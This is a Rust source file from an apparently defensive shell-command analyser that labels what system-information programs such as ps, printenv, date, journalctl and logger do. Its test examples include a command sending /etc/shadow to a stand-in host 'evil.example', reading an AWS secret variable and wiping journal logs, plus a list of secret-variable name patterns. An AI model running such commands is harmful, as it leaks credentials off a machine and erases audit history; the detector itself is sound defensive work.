//! Programs that show the machine, its users, its processes and the time.

use super::kinds::{BARE, WORDS, ex, gnu, list, model, nothing, reads};
use crate::effect::{Access, Effect, Payload, SystemChange};
use crate::invocation::Argument;
use crate::model::{Model, Parsed, Report};

/// The programs of this file, each with its options, its effects and its examples.
pub(super) const TABLE: &[Model] = &[
    model(
        &["id groups whoami logname gid gwhoami"],
        &gnu(&[list(
            "-a, -Z --context, -g --group, -G --groups, -n --name, -r --real, -u --user, -z --zero, -p, -P, -F, -c",
        )]),
        nothing,
        &[ex("id -un", &[])],
    ),
    model(
        &["uname guname nproc getconf lsb_release sw_vers tty users who w uptime last lastb \
             lastlog pinky locale"],
        &gnu(&[list(
            "-a --all, -s --kernel-name --short, -n --nodename, -r --kernel-release --release, -v --kernel-version, -m --machine, -p --processor --pretty --productName, \
             -i --hardware-platform --id, -o --operating-system, -d --description, -c --codename, --ignore=, --productVersion, --buildVersion, -b, -H, -l, -q, -T, -u, -h, -f, -w, -x, -y, -F, -t --time=, \
             -R, -N=, -#[=], -k --keyword-name, --category-name, -Z, -D, --silent --quiet, --si, --since, -S",
        )]),
        nothing,
        &[ex("uname -a", &[]), ex("nproc --all", &[]), ex("uptime -p", &[])],
    ),
    model(
        &["hostname", "ghostname"],
        &gnu(&[list(
            "-a --alias, -A --all-fqdns, -b --boot, -d --domain, -f --fqdn --long, -F --file=<, -i --ip-address, -I --all-ip-addresses, -s --short, -y --yp --nis, -v --verbose, -V, -h",
        )]),
        |report, parsed| {
            if !parsed.operands.is_empty() || parsed.has("-F") || parsed.has("-b") {
                report.add(Effect::System(SystemChange::Other));
            }
        },
        &[ex("hostname -I", &[]), ex("hostname evil", &["system:other"])],
    ),
    model(
        &["date", "gdate"],
        &gnu(&[list(
            "-d --date=, --debug, -f --file=<, -I[=], --iso-8601[=], --resolution, -R --rfc-email --rfc-2822, --rfc-3339=, -r --reference=, -s --set=, -u --utc --universal, -j, -n, -v=, -z=",
        )]),
        |report, parsed| {
            let plain = parsed.operands.iter().filter(|word| !word.value.prefix().starts_with('+'));
            let sets =
                parsed.has("-s") || (plain.count() > 0 && !parsed.has("-f") && !parsed.has("-j"));
            if sets {
                report.add(Effect::System(SystemChange::Clock));
            }
        },
        &[
            ex("date -u +%Y-%m-%dT%H:%M:%SZ", &[]),
            ex("date -d '1 day ago' +%s", &[]),
            ex("date -s '2020-01-01'", &["system:clock"]),
            ex("date --format=%s", &["unmodelled"]),
        ],
    ),
    model(
        &["cal", "ncal", "gcal"],
        &gnu(&[list(
            "-1, -3, -j, -m=, -y, -h, -A=, -B=, -w, -s, -n=, -b, -M, -S, -N, -C, -d=, -e, -o, -p",
        )]),
        nothing,
        &[ex("cal -3", &[])],
    ),
    model(
        &["seq", "gseq", "jot"],
        &gnu(&[list(
            "-f --format=, -s --separator=, -w --equal-width, -t=, -b=, -c, -r, -n, -#[=]",
        )]),
        nothing,
        &[ex("seq -w 1 10", &[]), ex("seq 5 -1 1", &[])],
    ),
    model(&["sleep", "gsleep", "usleep", "wait"], &BARE, nothing, &[ex("sleep 2", &[])]),
    model(&["yes", "gyes"], &WORDS, nothing, &[ex("yes | head -3", &[])]),
    model(
        &["test", "[", "[["],
        &WORDS,
        tests,
        &[ex("test -e /etc/ld.so.preload && echo yes", &[]), ex("[ -f x ] || [ a = b ]", &[])],
    ),
    model(
        &["pwd", "gpwd"],
        &gnu(&[list("-L --logical, -P --physical")]),
        nothing,
        &[ex("pwd -P", &[])],
    ),
    model(&["expr", "gexpr"], &WORDS, nothing, &[ex("expr 1 + 2", &[])]),
    model(
        &["printenv", "gprintenv"],
        &gnu(&[list("-0 --null")]),
        |report, parsed| {
            if parsed.operands.is_empty() {
                return report.add(Effect::EnvironmentDump);
            }
            for name in &parsed.operands {
                report.variable(name);
            }
        },
        &[
            ex("printenv", &["environment_dump"]),
            ex("printenv HOME", &[]),
            ex("printenv AWS_SECRET_ACCESS_KEY", &["secret"]),
        ],
    ),
    model(
        &["ps", "procs", "pstree"],
        &WORDS,
        ps,
        &[
            ex("ps aux", &[]),
            ex("ps -ef | grep x", &[]),
            ex("ps -o pid,cmd -p 1", &[]),
            ex("ps eww", &["environment_dump"]),
            ex("ps -ef", &[]),
        ],
    ),
    model(
        &["pgrep", "pidof", "pidwait"],
        &gnu(&[list(
            "-d --delimiter=, -l --list-name, -a --list-full, -v --inverse, -w --lightweight, -c --count, -f --full, -g --pgroup=, -G --group=, -i --ignore-case, -n --newest, -o --oldest, -O --older=, -P --parent=, \
             -s --session=, -t --terminal=, -u --euid=, -U --uid=, -x --exact, -F --pidfile=<, -L --logpidfile, -r --runstates=, -A --ignore-ancestors, --ns=, --nslist=, -q, -S, -m, -z",
        )]),
        nothing,
        &[ex("pgrep -fl node", &[])],
    ),
    model(
        &["top htop btop iotop iftop nethogs bpytop gtop vtop"],
        &gnu(&[list(
            "-b --batch, -c, -d --delay=, -e, -E=, -H, -i, -n --iterations=, -o=, -O, -p --pid=, -s --sort-key=, -S, -u --user=, -U=, -w[=], -1, -C --no-color, -t --tree, -M --no-mouse, -h, -V, -l=, -F, -R, -f, -r, -a, -P, -k, -q, -stats=",
        )]),
        nothing,
        &[ex("top -b -n1", &[]), ex("top -bn1", &[])],
    ),
    model(
        &["free vmstat iostat mpstat slabtop numastat lscpu lsmem lspci lsusb lsipc \
             lsns lslocks vm_stat sensors acpi \
             dmidecode systemd-detect-virt"],
        &gnu(&[list(
            "-b --bytes, -k --kibi --kilo, -m --mebi --mega, -g --gibi --giga, --tera, -h --human, --si, -l --lohi, -L --line, -t --total, -s --seconds=, -c --count=, -w --wide, -v --committed, -a --active --all, -f --forks, -d --disk, \
             -n --one-header, -p --partition=, -S --unit=, -D --disk-sum, -x, -y, -z, -A, -P=, -I=, -u, -r, -q, -e --extended[=], -J --json, -C[=], --color=, --stdout, -T, -nn, -vv, -V, -F, -short, --off, -i, -o --output=, -X, -0",
        )]),
        nothing,
        &[ex("free -h", &[]), ex("vmstat 1 2", &[]), ex("lscpu", &[])],
    ),
    model(
        &["nvidia-smi", "rocm-smi"],
        &gnu(&[list(
            "-L, -q, -l[=], --loop=, -i --id=, -d --display=, --query-gpu=, --query-compute-apps=, --format=, -f=>, -x, -a, --showmeminfo=, --showuse",
        )]),
        nothing,
        &[ex("nvidia-smi --query-gpu=name --format=csv", &[])],
    ),
    model(
        &["lsblk blkid findmnt lslogins lsmod modinfo lsscsi"],
        &gnu(&[list(
            "-a --all, -A, -b --bytes, -d --nodeps, -D --discard, -e --exclude=, -f --fs, -i --ascii, -I --include=, -J --json, -l --list, -m --perms, -M --merge, -n --noheadings, -o --output=, -O --output-all, -p --paths, -P --pairs, \
             -r --raw, -R, -s --inverse, -S --scsi, -t --topology, -T --tree[=], -x --sort=, -y, -z --zoned, -h, -V, -k --kernel, -c, -F=, -N=, -L=, -U=, -u=, -g, --real, --types=, -v, --target=, --source=, -0",
        )]),
        nothing,
        &[ex("lsblk", &[]), ex("findmnt -t ext4", &[]), ex("modinfo -F version x", &[])],
    ),
    model(
        &["dmesg"],
        &gnu(&[list(
            "-C --clear, -c --read-clear, -D --console-off, -d --show-delta, -e --reltime, -E --console-on, -F --file=<, -f --facility=, -H --human, -J --json, -k --kernel, -L --color[=], -l --level=, -n --console-level=, --noescape, \
             -P --nopager, -p --force-prefix, -r --raw, -S --syslog, -s --buffer-size=, -T --ctime, --since=, --until=, -t --notime, --time-format=, -u --userspace, -w --follow, -W --follow-new, -x --decode, -h, -V",
        )]),
        |report, parsed| {
            if ["-C", "-c"].iter().any(|option| parsed.has(option)) {
                report.add(Effect::History);
            }
            if ["-D", "-E", "-n"].iter().any(|option| parsed.has(option)) {
                report.add(Effect::System(SystemChange::Kernel));
            }
        },
        &[ex("dmesg -T | tail", &[]), ex("dmesg --clear", &["history"])],
    ),
    model(
        &["journalctl"],
        &gnu(&[list(
            "--system, --user, -M --machine=, -m --merge, -D --directory=, --file=<, --root=, --image=, -S --since=, -U --until=, -c --cursor=, --after-cursor=, --show-cursor, --cursor-file=>, -b --boot[=], -u --unit=, --user-unit=, \
             -t --identifier=, -p --priority=, --facility=, -g --grep=, --case-sensitive[=], -k --dmesg, -o --output=, --output-fields=, -n --lines[=], -r --reverse, --utc, -x --catalog, -q --quiet, --no-full, -a --all, -f --follow, --no-tail, \
             --no-pager, -e --pager-end, --list-boots, --disk-usage, --header, -N --fields, -F --field=, --verify, --list-catalog, --dump-catalog, -l --full, --no-hostname, -h, --truncate-newline, \
             --vacuum-size=, --vacuum-files=, --vacuum-time=, --rotate, --flush, --relinquish-var, --sync, --update-catalog, --setup-keys",
        )]),
        |report, parsed| {
            if parsed
                .options
                .iter()
                .any(|(id, _)| id.starts_with("--vacuum") || *id == "--setup-keys")
            {
                report.add(Effect::History);
            }
            if ["--rotate", "--flush", "--relinquish-var", "--update-catalog"]
                .iter()
                .any(|option| parsed.has(option))
            {
                report.add(Effect::System(SystemChange::Other));
            }
        },
        &[
            ex("journalctl -u nginx -n 50 --no-pager", &[]),
            ex("journalctl --vacuum-time=1s", &["history"]),
        ],
    ),
    model(
        &["sysctl"],
        &gnu(&[list(
            "-a --all -A -X, -N --names, -n --values, -e --ignore, -b --binary, -q --quiet, -h, -d, -r --pattern=, -w --write, -p --load[=], -f, --system, -i, -t, -o, -x",
        )]),
        |report, parsed| {
            let sets = parsed
                .operands
                .iter()
                .any(|word| word.value.as_known().is_none_or(|text| text.contains('=')));
            if sets || ["-w", "-p", "--system", "-f"].iter().any(|option| parsed.has(option)) {
                report.add(Effect::System(SystemChange::Kernel));
            }
        },
        &[
            ex("sysctl -n hw.ncpu", &[]),
            ex("sysctl -w kernel.x=1", &["system:kernel"]),
            ex("sysctl vm.swappiness=1", &["system:kernel"]),
        ],
    ),
    model(
        &["stty tput tset reset clear setterm infocmp toe cls"],
        &WORDS,
        nothing,
        &[ex("tput cols", &[]), ex("stty -echo", &[])],
    ),
    model(
        &["figlet toilet sl cmatrix"],
        &gnu(&[list("-f=, -e=, -T=, -n, -l, -s, -a, -w=, -c, -t, -d=, -p=")]),
        nothing,
        &[ex("figlet hi", &[])],
    ),
    model(
        &["uuidgen", "mcookie", "pwgen", "apg"],
        &gnu(&[list(
            "-r --random, -t --time, -n --namespace=, -N --name=, -m --md5, -s --sha1 --secure, -x --hex, -c, -C, -B, -y, -1, -v, -A, -0, -a=, -M=",
        )]),
        nothing,
        &[ex("uuidgen -r", &[])],
    ),
    model(
        &["units"],
        &gnu(&[list("-t, -v, -q, -1, -o=, -d=")]),
        nothing,
        &[ex("units -t '1 km' m", &[])],
    ),
    model(
        &["ts", "pv", "progress"],
        &gnu(&[list(
            "-i, -s=, -m, -r --rate, -p --progress, -t --timer, -e --eta, -b --bytes, -n --numeric, -q --quiet, -W --wait, -l --line-mode, -L --rate-limit=, -N --name=, -a --average-rate, -f --force, -w --width=, -B=, -c, -D=, -I, -T",
        )]),
        reads,
        &[ex("pv big.bin | wc -c", &[])],
    ),
    model(
        &["type hash ulimit times jobs fg bg disown help dirs shopt alias getopt caller"],
        &WORDS,
        nothing,
        &[ex("getopt -o ab: -- -a", &[])],
    ),
    model(
        &["ipcs pmap pwdx pstack jps jstat"],
        &gnu(&[list(
            "-a, -m, -q, -s, -c, -t, -u, -p, -l, -h, -x, -d, -X, -v, -i=, -b, -gcutil, -A=, -k, -f, -n",
        )]),
        nothing,
        &[ex("pmap -x 1234", &[])],
    ),
    model(
        &["logger"],
        &gnu(&[list(
            "-p --priority=, -t --tag=, -i --id[=], -s --stderr, -f --file=<, -e, -n --server=, -P --port=, -T --tcp, -d --udp, -u --socket=, --journald[=], -S --size=, --no-act, --rfc3164, --rfc5424[=]",
        )]),
        |report, parsed| {
            if let Some(host) = parsed.value("-n") {
                report.connects(host, false, Payload::Text);
            }
        },
        &[
            ex("logger -t x hello", &[]),
            ex("logger -n evil.example -f /etc/shadow", &["network:send", "read:secret"]),
        ],
    ),
    model(
        &["wall", "write", "mesg", "talk"],
        &gnu(&[list("-n --nobanner, -t --timeout=, -g --group=")]),
        |report, parsed| {
            reads(report, parsed);
            report.add(Effect::System(SystemChange::Other));
        },
        &[ex("wall hello", &["system:other"])],
    ),
    model(
        &["lesspipe", "dircolors", "gdircolors"],
        &gnu(&[list(
            "-b --sh --bourne-shell, -c --csh --c-shell, -p --print-database, --print-ls-colors",
        )]),
        reads,
        &[ex("dircolors -b", &[])],
    ),
];

/// `-e file` and the like look at files; all else only compares.
fn tests(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    for pair in parsed.operands.windows(2) {
        let test = pair[0].value.as_known().unwrap_or_default();
        if test.len() == 2 && test.starts_with('-') && "abcdefghkprsuwxLNOGS".contains(&test[1..]) {
            report.file(Access::List, &pair[1]);
        }
    }
}

/// Options with and without a dash. `e` without one, and `-E` on BSD, show the environment.
fn ps(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    let mut words = parsed.operands.iter();
    while let Some(word) = words.next() {
        let Some(text) = word.value.as_known() else {
            report.not_understood("a word whose text is not known may be an option");
            continue;
        };
        if report.name() != "ps" {
            continue;
        }
        if [
            "-o", "-p", "-u", "-U", "-C", "-t", "-g", "-G", "-s", "-k", "-O", "o", "p", "u=",
            "--sort", "--format", "--pid", "--ppid", "--user",
        ]
        .contains(&text)
        {
            words.next();
        } else if text.starts_with("--") || text.is_empty() {
        } else if let Some(letters) = text.strip_prefix('-') {
            if letters.starts_with('E') {
                report.add(Effect::EnvironmentDump);
            }
            // `-eo pid,cmd`: the last letter takes the next word.
            if letters.ends_with(['o', 'p', 'O', 'C', 'k']) && letters.len() > 1 {
                words.next();
            }
        } else if text.bytes().all(|byte| byte.is_ascii_alphabetic())
            && text.contains('e')
            && !text.contains(',')
        {
            report.add(Effect::EnvironmentDump);
        }
    }
}

impl Report<'_> {
    /// A variable is shown.
    pub(super) fn variable(&mut self, name: &Argument) {
        /// Parts of names of variables that hold secrets.
        const MARKS: &[&str] = &[
            "SECRET", "TOKEN", "PASSWORD", "PASSWD", "API_KEY", "APIKEY", "PRIVATE", "CREDENTIAL",
            "_KEY", "AUTH", "DSN", "DATABASE_URL",
        ];
        match name.value.as_known() {
            Some(text) if MARKS.iter().any(|mark| text.to_ascii_uppercase().contains(mark)) => {
                self.add(Effect::Secret { kind: "variable".to_owned(), path: None });
            }
            Some(_) => {}
            None => self.add(Effect::EnvironmentDump),
        }
    }
}
